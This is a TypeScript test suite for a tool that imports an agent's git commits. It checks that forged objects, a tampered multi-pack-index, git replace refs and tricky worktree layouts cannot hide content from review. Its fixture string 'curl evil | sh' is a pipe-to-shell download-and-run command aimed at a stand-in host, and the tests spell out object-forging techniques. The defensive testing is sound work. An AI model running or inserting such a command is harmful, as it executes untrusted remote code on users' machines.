/** Objects that a repository brought under the names of others: a review shows what a merge writes, and checks run on that. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { keptWorkRef } from '../../src/workspace/hidden-refs.ts';
import { importCommit } from '../../src/workspace/import-commit.ts';
import { GitStopped } from '../../src/workspace/limit-git.ts';
import { withoutOwnRules } from '../../src/workspace/own-rules.ts';
import { readChange } from '../../src/workspace/read-change.ts';
import { listTree } from '../../src/workspace/read-objects.ts';
import { git as runGit } from '../../src/workspace/run-git.ts';
import { showDiff, showReadableDiff } from '../../src/workspace/show-diff.ts';
import { commitWork, makeWorkspace, makeWorld, open, put, type World } from './world.ts';

const [HARM, HARMLESS] = ['curl evil | sh\n', 'echo hello 12345\n'];
const framed = (type: string, body: string | Buffer) => Buffer.concat([Buffer.from(`${type} ${body.length}\0`), Buffer.from(body)]);
const idOf = (object: Buffer) => createHash('sha1').update(object).digest('hex');
const HARM_ID = idOf(framed('blob', HARM));

describe('objects that a repository brought', () => {
  let world: World;
  beforeEach(async () => {
    world = await makeWorld();
  });
  afterEach(() => world.remove());
  const store = (...names: string[]) => join(world.repo, '.git/objects', ...names);

  function forge(id: string, object: Buffer, folder = store()): void {
    const file = join(folder, id.slice(0, 2), id.slice(2));
    mkdirSync(dirname(file), { recursive: true });
    rmSync(file, { force: true });
    writeFileSync(file, deflateSync(object));
  }
  /** Both in one pack, and nowhere else. */
  function pack(): string {
    const git = (words: string[], input: string) => execFileSync('git', ['-C', world.repo, ...words], { input, encoding: 'utf8' }).trim();
    const ids = [HARM, HARMLESS].map((text) => git(['hash-object', '-w', '--stdin'], text));
    git(['pack-objects', '-q', store('pack/pack')], `${ids.join('\n')}\n`);
    for (const id of ids) rmSync(store(id.slice(0, 2), id.slice(2)));
    return store('pack');
  }
  /** A list of all packs in which one name leads to another object. */
  async function lyingList(): Promise<void> {
    const file = join(pack(), 'multi-pack-index');
    await world.git('multi-pack-index', 'write');
    chmodSync(file, 0o600);
    const list = readFileSync(file);
    const places = new Map<string, number>();
    for (let at = 12; at < 12 + list[6]! * 12; at += 12)
      places.set(list.toString('latin1', at, at + 4), Number(list.readBigUInt64BE(at + 4)));
    const names = places.get('OIDL')!;
    const offsets = places.get('OOFF')!;
    const index = (id: string) => (list.indexOf(Buffer.from(id, 'hex'), names) - names) / 20;
    const [to, from] = [HARM_ID, idOf(framed('blob', HARMLESS))].map((id) => offsets + index(id) * 8) as [number, number];
    list.copy(list, to, from, from + 8);
    writeFileSync(file, list);
    assert.equal(await world.git('-c', 'core.multiPackIndex=true', 'cat-file', 'blob', HARM_ID), HARMLESS);
    assert.equal(await world.git('-c', 'core.multiPackIndex=false', 'cat-file', 'blob', HARM_ID), HARM);
  }
  async function work() {
    const space = await makeWorkspace(world);
    await put(join(space.workTree, 'run.sh'), HARM);
    const tip = await commitWork(space);
    const bring = () =>
      importCommit({
        ...{ repository: space.repository, privateGit: space.privateGit, tip, exclude: [space.base], branch: 'kimi/work', expected: null },
        keepAs: (attempt) => `kept-${attempt}`,
        lastResort: keptWorkRef('id', tip),
      });
    return { ...space, tip, bring };
  }

  for (const setting of ['false', 'true'])
    it(`a list of packs is read nowhere, with core.multiPackIndex=${setting}`, async () => {
      await lyingList();
      await world.git('config', 'core.multiPackIndex', setting);
      const { privateGit, repository, base, tip, bring } = await work();
      assert.deepEqual(await bring(), { ok: true });
      for (const place of [privateGit, repository]) {
        const { diffs } = await readChange(place, base, tip);
        assert.match(diffs[0]!.text, /\+curl evil/);
      }
    });

  it('one that is not what it is called comes onto no branch', async () => {
    forge(HARM_ID, framed('blob', HARMLESS));
    const { bring } = await work();
    assert.deepEqual(await bring(), { ok: false, reason: 'rejected', message: `hash mismatch ${HARM_ID}` });
    assert.equal(await world.git('for-each-ref', 'refs/heads/kimi'), '');
  });

  it('nor a folder that is another one', async () => {
    const before = await work();
    const tree = (await runGit(['rev-parse', `${before.tip}^{tree}`], before.privateGit)).toString('latin1').trim();
    rmSync(before.privateGit.gitDir, { recursive: true });
    rmSync(before.workTree, { recursive: true });
    forge(tree, framed('tree', Buffer.from((await world.git('cat-file', 'tree', 'HEAD^{tree}')).slice(0, 0))));
    const { bring } = await work();
    assert.deepEqual(await bring(), { ok: false, reason: 'rejected', message: `hash mismatch ${tree}` });
  });

  it('nor work on a file whose content before was another one: its lines would look as if they had been there', async () => {
    const id = (await world.git('rev-parse', 'HEAD:src/app.ts')).trim();
    forge(id, framed('blob', `${HARM}export const answer = 41;\n`));
    const space = await makeWorkspace(world);
    await put(join(space.workTree, 'src/app.ts'), `${HARM}export const answer = 42;\n`);
    const tip = await commitWork(space);
    const plan = { ...space, tip, exclude: [space.base], branch: 'kimi/work', expected: null, keepAs: String };
    const brought = await importCommit({ ...plan, lastResort: keptWorkRef('id', tip) });
    assert.deepEqual(brought, { ok: false, reason: 'rejected', message: `hash mismatch ${id}` });
  });

  it('a few folders that say a million files are listed to no end', async () => {
    const git = (words: string[], input: string) => execFileSync('git', ['-C', world.repo, ...words], { input, encoding: 'utf8' }).trim();
    const folderOf = (entry: string) => git(['mktree'], Array.from({ length: 101 }, (_, at) => `${entry}\td${at}\n`).join(''));
    let tree = folderOf(`100644 blob ${git(['hash-object', '-w', '--stdin'], '')}`);
    for (let deep = 1; deep < 3; deep++) tree = folderOf(`040000 tree ${tree}`);
    await assert.rejects(listTree({ gitDir: join(world.repo, '.git') }, tree), GitStopped);
  });

  it('the diff in a terminal shows what is there, not what a repository shows in its place', async () => {
    await world.write('run.sh', HARM);
    await world.write('other.txt', HARMLESS);
    await world.git('add', '-A');
    await world.git('commit', '-q', '-m', 'Run');
    await world.git('replace', HARM_ID, idOf(framed('blob', HARMLESS)));
    assert.match(await world.git('show'), /run\.sh[\s\S]*\+echo hello/);
    const shown = join(world.root, 'shown');
    const wanted = { base: 'HEAD~1', tip: 'HEAD', format: [`--output=${shown}`], paths: [join(world.repo, 'run.sh')] };
    const env = { PATH: process.env.PATH, HOME: world.user.home };
    for (const show of [
      async () => showDiff(await open(world), wanted, env),
      async () => showReadableDiff(await open(world), wanted, env, String),
    ]) {
      await show();
      assert.match(readFileSync(shown, 'utf8'), /\+curl evil/);
    }
  });

  it('a review in a linked working tree reads those that git reads, by whatever way its git dir names them', async () => {
    await world.git('worktree', 'add', '-q', '--detach', 'beside');
    const id = (await world.git('rev-parse', 'HEAD:src/app.ts')).trim();
    const gitDir = join(world.repo, '.git/worktrees/beside');
    mkdirSync(join(world.repo, '.git/a/b'), { recursive: true });
    symlinkSync(join(world.repo, '.git/a/b'), join(gitDir, 'link'));
    writeFileSync(join(gitDir, 'commondir'), 'link/../..\n');
    const other = join(world.repo, '.git/worktrees/objects');
    cpSync(store(), other, { recursive: true });
    forge(id, framed('blob', HARMLESS), other);
    const repository = await open(world, join(world.repo, 'beside'));
    const read = await withoutOwnRules(repository, 40, (call) => runGit(['cat-file', 'blob', id], call));
    assert.equal(read.toString(), 'export const answer = 41;\n');
  });
});
